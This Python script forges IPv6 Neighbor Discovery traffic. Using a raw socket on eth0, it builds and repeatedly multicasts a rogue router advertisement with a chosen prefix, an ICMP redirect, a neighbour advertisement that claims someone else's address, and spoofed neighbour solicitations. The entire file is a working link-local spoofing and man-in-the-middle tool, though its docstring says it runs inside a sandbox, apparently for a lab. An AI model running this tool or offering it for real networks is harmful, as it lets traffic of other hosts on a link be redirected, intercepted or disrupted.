"""Sends what IPv6 believes of strangers: router advertisements, redirects, and neighbours that are somebody else. It runs
inside a sandbox: standard library only.

The program's first argument is JSON: `prefix` (the first 64 bits that the router announces, as `fd12:3456:789a:1::`), `router`
(its link-local address), `pretended` (an address that it claims to have), and `asked`, addresses of which it asks who has them.
"""

from __future__ import annotations

import json
import socket
import struct
import sys
import time

ALL_NODES, ALL_NODES_MAC = "ff02::1", b"\x33\x33\0\0\0\1"
IPV6, ICMP6, HOPS = 0x86DD, 58, 255
SOLICIT, ADVERTISE, ROUTER, REDIRECT = 135, 136, 134, 137
LIFETIME = 600  # seconds
TIMES = 3


def packed(address: str) -> bytes:
    return socket.inet_pton(socket.AF_INET6, address)


def checksum(data: bytes) -> int:
    data += bytes(len(data) % 2)
    total: int = sum(struct.unpack(f">{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def message(source: str, target: str, kind: int, body: bytes) -> bytes:
    """A packet with one ICMPv6 message."""
    told = struct.pack(">BBH", kind, 0, 0) + body
    summed = checksum(packed(source) + packed(target) + struct.pack(">IHBB", len(told), 0, 0, ICMP6) + told)
    told = told[:2] + struct.pack(">H", summed) + told[4:]
    return struct.pack(">IHBB", 6 << 28, len(told), ICMP6, HOPS) + packed(source) + packed(target) + told


def packets(goal: dict[str, object], mac: bytes) -> list[bytes]:
    """The packets; each of them goes to everybody on the link."""
    prefix, router, pretended = (str(goal[key]) for key in ("prefix", "router", "pretended"))
    mine = b"\x01\x01" + mac  # option: my MAC address
    option = struct.pack(">BBBBIII", 3, 4, 64, 0xC0, LIFETIME, LIFETIME, 0) + packed(prefix)
    found = [message(router, ALL_NODES, ROUTER, struct.pack(">BBHII", 64, 0, LIFETIME, 0, 0) + mine + option)]
    better = packed(router) + packed(prefix[:-1] + ":1")  # by this neighbour to the first address of the prefix
    found.append(message(router, ALL_NODES, REDIRECT, bytes(4) + better + b"\x02\x01" + mac))
    claim = b"\x20\0\0\0" + packed(pretended) + b"\x02\x01" + mac
    found.append(message(pretended, ALL_NODES, ADVERTISE, claim))
    asked = goal["asked"]
    for address in asked if isinstance(asked, list) else ():
        found.append(message(pretended, str(address), SOLICIT, bytes(4) + packed(str(address)) + mine))
    return found


def main() -> None:
    with open("/sys/class/net/eth0/address") as own:
        mac = bytes.fromhex(own.read().strip().replace(":", ""))
    made = packets(json.loads(sys.argv[1]), mac)
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0) as link:
        link.bind(("eth0", 0))
        for _ in range(TIMES):
            for packet in made:
                link.send(ALL_NODES_MAC + mac + struct.pack(">H", IPV6) + packet)
                time.sleep(0.01)
    sys.stdout.write(f"sent {len(made)}")


if __name__ == "__main__":
    main()
